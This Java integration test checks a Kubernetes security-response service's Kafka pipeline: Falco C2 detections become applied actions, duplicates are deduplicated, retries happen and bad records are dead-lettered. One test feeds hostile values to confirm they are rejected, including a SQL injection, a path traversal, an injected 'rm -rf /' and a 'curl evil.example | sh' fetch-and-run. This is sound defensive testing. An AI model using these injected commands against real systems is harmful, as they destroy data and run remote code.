package dev.stanch.kafka;

import static org.assertj.core.api.Assertions.assertThat;

import dev.stanch.Await;
import dev.stanch.detection.DetectionNormalizer;
import dev.stanch.detection.Normalization;
import dev.stanch.kubernetes.ClusterFixtures;
import dev.stanch.kubernetes.Kubeconfigs;
import dev.stanch.ledger.LedgerPostgres;
import dev.stanch.ledger.LedgerPostgresExtension;
import io.fabric8.kubernetes.api.model.NamespaceBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.server.mock.KubernetesCrudDispatcher;
import io.fabric8.kubernetes.client.server.mock.KubernetesMockServer;
import io.fabric8.mockwebserver.Context;
import io.fabric8.mockwebserver.MockWebServer;
import io.fabric8.mockwebserver.http.Dispatcher;
import io.fabric8.mockwebserver.http.MockResponse;
import io.fabric8.mockwebserver.http.RecordedRequest;
import io.micrometer.core.instrument.MeterRegistry;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.function.BooleanSupplier;
import java.util.function.Supplier;
import javax.sql.DataSource;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.AdminClientConfig;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.clients.consumer.OffsetAndMetadata;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.clients.producer.RecordMetadata;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.header.Header;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.kafka.test.EmbeddedKafkaBroker;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import tools.jackson.databind.json.JsonMapper;

/**
 * Kafka in and out on the whole service, as deployed: a real broker (KRaft, in this JVM), the
 * ledger on a real PostgreSQL, the Kubernetes API through fabric8's mock (which this test can make
 * answer 503), and a playbook that approves by itself. Each test uses its own pod, so that each
 * finds its own detection, action and records.
 */
@ExtendWith({LedgerPostgresExtension.class, EmbeddedKafkaExtension.class})
// Closed after this class: its consumers, relay and schedules must not outlive the broker and database.
@DirtiesContext
@SpringBootTest(
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {
            "stanch.runner.interval=100ms",
            "stanch.playbooks.reload-interval=0s",
            "stanch.guardrails.protected-namespaces=kube-system",
            "stanch.kafka.max-record-bytes=200KB",
            "stanch.kafka.retry.initial-interval=200ms",
            "stanch.kafka.retry.max-interval=1s",
            "stanch.kafka.relay.interval=100ms",
        })
class KafkaIT {

    private static final Duration PATIENCE = Duration.ofSeconds(90);
    private static final String DETECTIONS = EmbeddedKafkaExtension.DETECTIONS;
    private static final String ACTIONS = EmbeddedKafkaExtension.ACTIONS;
    private static final String DEAD_LETTERS = EmbeddedKafkaExtension.DEAD_LETTERS;
    private static final String GROUP = "stanch";
    private static final String NAMESPACE = "shop";
    private static final JsonMapper JSON = JsonMapper.builder().build();

    @TempDir
    static Path playbooks;

    private static EmbeddedKafkaBroker broker;
    private static KafkaProducer<String, byte[]> producer;
    private static String databaseUrl;
    private static KubernetesMockServer kubernetes;
    private static KubernetesClient admin;
    private static Path kubeconfig;

    /** While set, the mock API server answers every request with 503, as an overloaded or restarting server does. */
    private static final AtomicBoolean apiUnavailable = new AtomicBoolean();

    /** A namespace Stanch may not read: the mock API server answers 403 there, which retrying cannot change. */
    private static final String SEALED = "sealed";

    @Autowired
    DataSource dataSource;

    @Autowired
    MeterRegistry meters;

    @BeforeAll
    static void startDependencies(LedgerPostgres postgres, EmbeddedKafkaBroker kafka, @TempDir Path dir)
            throws IOException {
        broker = kafka;
        producer = new KafkaProducer<>(Map.of(
                ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, broker.getBrokersAsString(),
                ProducerConfig.KEY_SERIALIZER_CLASS_CONFIG, StringSerializer.class,
                ProducerConfig.VALUE_SERIALIZER_CLASS_CONFIG, ByteArraySerializer.class));
        databaseUrl = postgres.newEmptyDatabase();
        Dispatcher crud = new KubernetesCrudDispatcher();
        Dispatcher unavailableAtWill = new Dispatcher() {
            @Override
            public MockResponse dispatch(RecordedRequest request) {
                if (request.getPath() != null && request.getPath().contains("/namespaces/" + SEALED + "/")) {
                    return new MockResponse()
                            .setResponseCode(403)
                            .setBody("{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"status\":\"Failure\","
                                    + "\"message\":\"pods is forbidden\",\"reason\":\"Forbidden\",\"code\":403}");
                }
                if (apiUnavailable.get()) {
                    return new MockResponse()
                            .setResponseCode(503)
                            .setBody("{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"status\":\"Failure\","
                                    + "\"message\":\"the server is currently unable to handle the request\","
                                    + "\"reason\":\"ServiceUnavailable\",\"code\":503}");
                }
                return crud.dispatch(request);
            }
        };
        kubernetes =
                new KubernetesMockServer(new Context(), new MockWebServer(), new HashMap<>(), unavailableAtWill, false);
        kubernetes.init();
        admin = kubernetes.createClient();
        kubeconfig = Kubeconfigs.write(dir.resolve("kubeconfig"), admin.getConfiguration());
        Files.writeString(playbooks.resolve("c2.yaml"), """
                apiVersion: stanch.dev/v1alpha1
                kind: Playbook
                metadata:
                  name: outbound-c2
                spec:
                  match:
                    sources: [falco]
                    rules: ["Outbound Connection to C2 Servers"]
                  window: 30m
                  stages:
                    - name: cut
                      after: 1
                      action: block-connection
                      approval: auto
                      expireAfter: 1h
                """);
        admin.namespaces()
                .resource(new NamespaceBuilder()
                        .withNewMetadata()
                        .withName(NAMESPACE)
                        .endMetadata()
                        .build())
                .create();
    }

    @DynamicPropertySource
    static void dependencies(DynamicPropertyRegistry registry) {
        registry.add("spring.datasource.url", () -> databaseUrl);
        registry.add("spring.datasource.username", () -> "postgres");
        registry.add("stanch.kubernetes.kubeconfig", () -> kubeconfig.toString());
        registry.add("stanch.playbooks.dir", () -> playbooks.toString());
        registry.add("spring.kafka.bootstrap-servers", () -> broker.getBrokersAsString());
    }

    @AfterAll
    static void stopDependencies() {
        producer.close();
        admin.close();
        kubernetes.destroy();
    }

    @Test
    void aDetectionBecomesAnAppliedActionAndEachTransitionIsPublishedOnceInOrder() {
        pod("web-1", "10.0.0.11");
        double acted = count("acted");
        String event = c2Event("web-1", "10.0.0.11");
        Instant sent = Instant.now();

        RecordMetadata record = produce("shop/web-1", event);

        UUID action = awaitAction(detectionId(event));
        awaitStatus(action, "applied");
        Duration toApplied = Duration.between(sent, Instant.now());
        await("every transition of " + action + " is published", () -> unpublished(action) == 0);
        Duration toPublished = Duration.between(sent, Instant.now());

        List<ConsumerRecord<byte[], byte[]>> published = readAll(ACTIONS).stream()
                .filter(r -> action.toString().equals(key(r)))
                .toList();
        List<Map<String, Object>> events = published.stream().map(KafkaIT::json).toList();
        assertThat(events)
                .extracting(e -> e.get("type"))
                .as("each transition once, in order")
                .containsExactly(
                        "dev.stanch.action.planned",
                        "dev.stanch.action.approved",
                        "dev.stanch.action.applying",
                        "dev.stanch.action.applied");
        assertThat(events).extracting(e -> e.get("id")).doesNotHaveDuplicates();
        assertThat(events.size()).isEqualTo(auditRows(action));
        assertThat(events).allSatisfy(e -> {
            assertThat(e)
                    .containsEntry("specversion", "1.0")
                    .containsEntry("source", "/stanch/ledger")
                    .containsEntry("subject", action.toString())
                    .containsEntry("datacontenttype", "application/json")
                    .containsKeys("id", "time", "data");
            assertThat(e.get("id").toString()).startsWith("audit-");
        });
        assertThat(published)
                .allSatisfy(r ->
                        assertThat(header(r, "content-type")).isEqualTo("application/cloudevents+json; charset=UTF-8"));
        assertThat(published)
                .extracting(ConsumerRecord::partition)
                .as("one action, one partition")
                .containsOnly(published.getFirst().partition());
        assertThat(count("acted") - acted).isEqualTo(1);
        assertThat(committed(record)).isEqualTo(record.offset() + 1);

        System.out.printf(
                "KafkaIT: detection produced → action applied in %d ms, → its last event published in %d ms%n"
                        + "KafkaIT: the applied event as published:%n%s%n",
                toApplied.toMillis(),
                toPublished.toMillis(),
                JSON.writerWithDefaultPrettyPrinter().writeValueAsString(events.getLast()));
    }

    @Test
    void theSameDetectionTwiceIsOneActionAndBothRecordsAreCommitted() {
        pod("web-2", "10.0.0.12");
        double acted = count("acted");
        double duplicates = count("duplicate");
        String event = c2Event("web-2", "10.0.0.12");

        produce("shop/web-2", event);
        RecordMetadata second = produce("shop/web-2", event);

        await("both records are committed", () -> committed(second) == second.offset() + 1);
        assertThat(actionsOf(detectionId(event))).hasSize(1);
        assertThat(count("acted") - acted).isEqualTo(1);
        assertThat(count("duplicate") - duplicates).isEqualTo(1);
        awaitStatus(actionsOf(detectionId(event)).getFirst(), "applied");
    }

    @Test
    void aStormOfOneDetectionIsOneActionEveryCopyCountedAndEveryOffsetCommitted() throws Exception {
        int copies = 2_000;
        pod("web-7", "10.0.0.17");
        double acted = count("acted");
        double duplicates = count("duplicate");
        String event = c2Event("web-7", "10.0.0.17");
        byte[] value = event.getBytes(StandardCharsets.UTF_8);

        // The same event, byte for byte, one key: one partition, many polls' worth of records.
        List<Future<RecordMetadata>> sent = new ArrayList<>();
        for (int i = 0; i < copies; i++) {
            sent.add(producer.send(new ProducerRecord<>(DETECTIONS, "shop/web-7", value)));
        }
        producer.flush();
        RecordMetadata last = sent.getLast().get();
        assertThat(sent.getFirst().get().partition()).isEqualTo(last.partition());

        // A record is counted before its offset is committed: once the last is, every copy is counted.
        await("every copy is committed", () -> committed(last) == last.offset() + 1);
        assertThat(actionsOf(detectionId(event))).hasSize(1);
        assertThat(count("acted") - acted).isEqualTo(1);
        assertThat(count("duplicate") - duplicates).isEqualTo(copies - 1);
        awaitStatus(actionsOf(detectionId(event)).getFirst(), "applied");
    }

    @Test
    void unreadableOversizedAndHostileRecordsAreDeadLetteredWithTheirReasonAndTheConsumerGoesOn() {
        pod("web-3", "10.0.0.13");
        double rejected = count("rejected");
        long detectionsBefore = detections();
        String key = "shop/web-3"; // one key: one partition, so the good record comes after the bad ones
        String hugeField = "A".repeat(100_000);
        Map<RecordMetadata, byte[]> bad = new HashMap<>();
        byte[] malformed = "{\"rule\": \"Outbound Connection to C2 Servers\", \"output_fields\": {"
                .getBytes(StandardCharsets.UTF_8);
        bad.put(produce(key, malformed), malformed);
        byte[] oversized = c2Event("web-3", "10.0.0.13")
                .replace("\"output\":\"c2\"", "\"output\":\"" + "x".repeat(300 * 1024) + "\"")
                .getBytes(StandardCharsets.UTF_8);
        RecordMetadata oversizedRecord = produce(key, oversized);
        bad.put(oversizedRecord, oversized);
        List<String> hostile = List.of(
                falcoEvent("'; drop table actions; --", "web-3", "10.0.0.13", "sh"),
                falcoEvent(NAMESPACE, "../../etc", "10.0.0.13", "sh"),
                falcoEvent(hugeField, "web-3", "10.0.0.13", "sh"),
                falcoEvent(NAMESPACE, "web-3\"; rm -rf / #", "10.0.0.13", hugeField),
                falcoEvent(NAMESPACE, "web-3", "10.0.0.13; curl evil.example | sh", hugeField));
        for (String event : hostile) {
            byte[] bytes = event.getBytes(StandardCharsets.UTF_8);
            bad.put(produce(key, bytes), bytes);
        }
        String good = c2Event("web-3", "10.0.0.13");
        RecordMetadata goodRecord = produce(key, good);

        awaitStatus(awaitAction(detectionId(good)), "applied");

        assertThat(committed(goodRecord)).isEqualTo(goodRecord.offset() + 1);
        assertThat(detections() - detectionsBefore)
                .as("only the good record is stored")
                .isEqualTo(1);
        assertThat(count("rejected") - rejected).isEqualTo(bad.size());
        List<ConsumerRecord<byte[], byte[]>> letters = readAll(DEAD_LETTERS);
        for (Map.Entry<RecordMetadata, byte[]> entry : bad.entrySet()) {
            RecordMetadata original = entry.getKey();
            ConsumerRecord<byte[], byte[]> letter = letters.stream()
                    .filter(r -> originalPartition(r) == original.partition() && originalOffset(r) == original.offset())
                    .reduce((a, b) -> {
                        throw new AssertionError("dead-lettered twice: " + original);
                    })
                    .orElseThrow(() -> new AssertionError("not dead-lettered: " + original));
            assertThat(key(letter)).isEqualTo(key);
            assertThat(header(letter, "kafka_dlt-original-topic")).isEqualTo(DETECTIONS);
            assertThat(header(letter, "kafka_dlt-original-consumer-group")).isEqualTo(GROUP);
            assertThat(header(letter, "kafka_dlt-exception-fqcn")).isNotBlank();
            String reason = header(letter, DeadLetters.REASON_HEADER);
            assertThat(reason).isNotBlank().hasSizeLessThanOrEqualTo(1000).doesNotContain("\n");
            if (original.equals(oversizedRecord)) {
                assertThat(reason).contains("over the limit of " + 200 * 1024);
                assertThat(header(letter, DeadLetters.ORIGINAL_BYTES_HEADER))
                        .isEqualTo(Integer.toString(oversized.length));
                assertThat(letter.value()).hasSize(DeadLetters.MAX_VALUE_BYTES);
            } else {
                assertThat(letter.value()).isEqualTo(entry.getValue());
            }
        }
        Map<String, String> reasonsByValue = new HashMap<>();
        letters.forEach(letter -> reasonsByValue.put(
                new String(letter.value(), StandardCharsets.UTF_8), header(letter, DeadLetters.REASON_HEADER)));
        assertThat(reasonsByValue.get(new String(malformed, StandardCharsets.UTF_8)))
                .startsWith("not JSON");
        assertThat(reasonsByValue.get(hostile.get(0))).contains("not a valid namespace name");
        assertThat(reasonsByValue.get(hostile.get(1))).contains("not a valid pod name");
        assertThat(reasonsByValue.get(hostile.get(2))).contains("not a valid namespace name");
        assertThat(reasonsByValue.get(hostile.get(3))).contains("not a valid pod name");
        assertThat(reasonsByValue.get(hostile.get(4))).contains("not an IP address");

        ConsumerRecord<byte[], byte[]> example = letters.stream()
                .filter(letter -> new String(letter.value(), StandardCharsets.UTF_8).equals(hostile.get(0)))
                .findFirst()
                .orElseThrow();
        StringBuilder printed = new StringBuilder("KafkaIT: a dead letter's headers:");
        example.headers()
                .forEach(header -> printed.append("\n  ")
                        .append(header.key())
                        .append(": ")
                        .append(
                                switch (header.key()) {
                                    case "kafka_dlt-original-partition" ->
                                        Integer.toString(
                                                ByteBuffer.wrap(header.value()).getInt());
                                    case "kafka_dlt-original-offset", "kafka_dlt-original-timestamp" ->
                                        Long.toString(
                                                ByteBuffer.wrap(header.value()).getLong());
                                    default ->
                                        DetectionListener.printable(
                                                new String(header.value(), StandardCharsets.UTF_8), 160);
                                }));
        System.out.println(printed);
    }

    @Test
    void anErrorThatWouldRecurIsDeadLetteredWithTheExceptionAtOnce() {
        pod("web-6", "10.0.0.16");
        double retries = meters.get(DetectionOutcomes.RETRIES).counter().count();
        // Stanch may not read the namespace (403): not transient, so not retried.
        String refused = falcoEvent(SEALED, "web-6", "10.0.0.16", "sh -c id");
        RecordMetadata record = produce("shop/web-6", refused);
        String good = c2Event("web-6", "10.0.0.16");
        produce("shop/web-6", good);

        awaitStatus(awaitAction(detectionId(good)), "applied");

        ConsumerRecord<byte[], byte[]> letter = readAll(DEAD_LETTERS).stream()
                .filter(r -> originalPartition(r) == record.partition() && originalOffset(r) == record.offset())
                .findFirst()
                .orElseThrow();
        assertThat(header(letter, DeadLetters.REASON_HEADER)).startsWith("could not take the detection in: ");
        assertThat(header(letter, "kafka_dlt-exception-fqcn")).isNotBlank();
        assertThat(header(letter, "kafka_dlt-exception-stacktrace")).isNotBlank();
        assertThat(meters.get(DetectionOutcomes.RETRIES).counter().count() - retries)
                .as("not retried")
                .isZero();
    }

    @Test
    void aFailureInsideAcceptIsRetriedWithTheOffsetUncommittedAndDoneOnceTheClusterIsBack() {
        pod("web-4", "10.0.0.14");
        pod("web-5", "10.0.0.15");
        double retries = meters.get(DetectionOutcomes.RETRIES).counter().count();
        // No playbook acts on it, so it needs no cluster: it goes through ahead of the failing ones.
        String unmatched =
                c2Event("web-4", "10.0.0.14").replace("Outbound Connection to C2 Servers", "A Rule No Playbook Names");
        String first = c2Event("web-4", "10.0.0.14");
        String second = c2Event("web-5", "10.0.0.15");
        RecordMetadata firstRecord;
        RecordMetadata secondRecord;
        apiUnavailable.set(true);
        try {
            produce("shop/web-4", unmatched);
            firstRecord = produce("shop/web-4", first); // the same key: the same partition, behind it
            secondRecord = produce("shop/web-4", second);

            await(
                    "the intake fails and the record is delivered again",
                    () -> meters.get(DetectionOutcomes.RETRIES).counter().count() - retries >= 1);

            // Offsets are committed per poll: the record taken in before the failed one is committed
            // while that one is retried; the failed one is not.
            await(
                    "the offset committed up to the failed record, not past it",
                    () -> committed(firstRecord) == firstRecord.offset());
            assertThat(storedDetection(detectionId(unmatched))).isTrue();
            assertThat(actionsOf(detectionId(first))).isEmpty();
            assertThat(storedDetection(detectionId(first))).as("nothing stored").isFalse();
            assertThat(storedDetection(detectionId(second)))
                    .as("the partition waits behind the failed record")
                    .isFalse();
        } finally {
            apiUnavailable.set(false);
        }

        UUID firstAction = awaitAction(detectionId(first));
        UUID secondAction = awaitAction(detectionId(second));
        awaitStatus(firstAction, "applied");
        awaitStatus(secondAction, "applied");
        await("both records are committed", () -> committed(secondRecord) == secondRecord.offset() + 1);
        assertThat(actionsOf(detectionId(first))).as("taken in once").containsExactly(firstAction);
        assertThat(createdAt(firstAction)).as("in the partition's order").isBefore(createdAt(secondAction));
    }

    // ---------------------------------------------------------------------------------------------

    private static void pod(String name, String ip) {
        ClusterFixtures.runningPod(admin, NAMESPACE, name, ip, Map.of("app", "web"));
    }

    private static String c2Event(String pod, String ip) {
        return falcoEvent(NAMESPACE, pod, ip, "curl");
    }

    private static String falcoEvent(String namespace, String pod, String ip, String process) {
        return """
                {"output":"c2","priority":"Warning","rule":"Outbound Connection to C2 Servers",\
                "time":"%s","source":"syscalls","output_fields":{"k8s.ns.name":"%s","k8s.pod.name":"%s",\
                "proc.name":"%s","evt.type":"connect","fd.type":"ipv4","fd.l4proto":"tcp",\
                "fd.name":"%s:41234->203.0.113.7:443","fd.lip":"%s","fd.lport":41234,"fd.rip":"203.0.113.7","fd.rport":443}}
                """.formatted(Instant.now(), namespace, pod.replace("\"", "\\\""), process, ip, ip);
    }

    private static String detectionId(String event) {
        Normalization normalization = new DetectionNormalizer().normalize(event);
        assertThat(normalization).isInstanceOf(Normalization.Normalized.class);
        return ((Normalization.Normalized) normalization).detection().id();
    }

    private static RecordMetadata produce(String key, String value) {
        return produce(key, value.getBytes(StandardCharsets.UTF_8));
    }

    private static RecordMetadata produce(String key, byte[] value) {
        try {
            return producer.send(new ProducerRecord<>(DETECTIONS, key, value)).get();
        } catch (Exception e) {
            throw new AssertionError("cannot produce to " + DETECTIONS, e);
        }
    }

    /** Every record of a topic, from the beginning to its end as of now. */
    private static List<ConsumerRecord<byte[], byte[]>> readAll(String topic) {
        try (KafkaConsumer<byte[], byte[]> consumer = new KafkaConsumer<>(Map.of(
                ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG,
                broker.getBrokersAsString(),
                ConsumerConfig.KEY_DESERIALIZER_CLASS_CONFIG,
                ByteArrayDeserializer.class,
                ConsumerConfig.VALUE_DESERIALIZER_CLASS_CONFIG,
                ByteArrayDeserializer.class,
                ConsumerConfig.ENABLE_AUTO_COMMIT_CONFIG,
                false))) {
            List<TopicPartition> partitions = consumer.partitionsFor(topic).stream()
                    .map(info -> new TopicPartition(topic, info.partition()))
                    .toList();
            consumer.assign(partitions);
            consumer.seekToBeginning(partitions);
            Map<TopicPartition, Long> end = consumer.endOffsets(partitions);
            List<ConsumerRecord<byte[], byte[]>> records = new ArrayList<>();
            await("reading " + topic + " to its end", () -> {
                consumer.poll(Duration.ofMillis(100)).forEach(records::add);
                return partitions.stream().allMatch(tp -> consumer.position(tp) >= end.get(tp));
            });
            return records;
        }
    }

    private static Long committedOrNull(RecordMetadata record) {
        TopicPartition partition = new TopicPartition(record.topic(), record.partition());
        OffsetAndMetadata offset;
        try (Admin kafkaAdmin =
                Admin.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, broker.getBrokersAsString()))) {
            offset = kafkaAdmin
                    .listConsumerGroupOffsets(GROUP)
                    .partitionsToOffsetAndMetadata()
                    .get()
                    .get(partition);
        } catch (Exception e) {
            throw new AssertionError("cannot read the group's offsets", e);
        }
        return offset == null ? null : offset.offset();
    }

    private static long committed(RecordMetadata record) {
        Long offset = committedOrNull(record);
        return offset == null ? -1 : offset;
    }

    private double count(String outcome) {
        return meters.get(DetectionOutcomes.METER)
                .tag("outcome", outcome)
                .counter()
                .count();
    }

    private JdbcClient sql() {
        return JdbcClient.create(dataSource);
    }

    private UUID awaitAction(String detectionId) {
        await(
                "an action for detection " + detectionId,
                () -> !actionsOf(detectionId).isEmpty());
        return actionsOf(detectionId).getFirst();
    }

    private List<UUID> actionsOf(String detectionId) {
        return sql().sql("select id from actions where detection_id = :id order by created_at")
                .param("id", detectionId)
                .query(UUID.class)
                .list();
    }

    private void awaitStatus(UUID action, String status) {
        Supplier<String> current = () -> sql().sql("select status from actions where id = :id")
                .param("id", action)
                .query(String.class)
                .single();
        await("action " + action + " " + status, () -> status.equals(current.get()));
    }

    private Instant createdAt(UUID action) {
        return sql().sql("select created_at from actions where id = :id")
                .param("id", action)
                .query(java.sql.Timestamp.class)
                .single()
                .toInstant();
    }

    private boolean storedDetection(String id) {
        return sql().sql("select count(*) from detections where id = :id")
                        .param("id", id)
                        .query(Long.class)
                        .single()
                > 0;
    }

    private long detections() {
        return sql().sql("select count(*) from detections").query(Long.class).single();
    }

    private long unpublished(UUID action) {
        return sql().sql("select count(*) from outbox where action_id = :id and published_at is null")
                .param("id", action)
                .query(Long.class)
                .single();
    }

    private long auditRows(UUID action) {
        return sql().sql("select count(*) from audit_log where action_id = :id")
                .param("id", action)
                .query(Long.class)
                .single();
    }

    private static String key(ConsumerRecord<byte[], byte[]> record) {
        return record.key() == null ? null : new String(record.key(), StandardCharsets.UTF_8);
    }

    private static String header(ConsumerRecord<?, ?> record, String name) {
        Header header = record.headers().lastHeader(name);
        return header == null ? null : new String(header.value(), StandardCharsets.UTF_8);
    }

    private static int originalPartition(ConsumerRecord<?, ?> letter) {
        Header header = letter.headers().lastHeader("kafka_dlt-original-partition");
        return header == null ? -1 : ByteBuffer.wrap(header.value()).getInt();
    }

    private static long originalOffset(ConsumerRecord<?, ?> letter) {
        Header header = letter.headers().lastHeader("kafka_dlt-original-offset");
        return header == null ? -1 : ByteBuffer.wrap(header.value()).getLong();
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> json(ConsumerRecord<byte[], byte[]> record) {
        return JSON.readValue(record.value(), Map.class);
    }

    /** Waits for something the service does on its own; the patience is no claim about speed. */
    private static void await(String what, BooleanSupplier done) {
        Await.until(PATIENCE, what, done);
    }
}
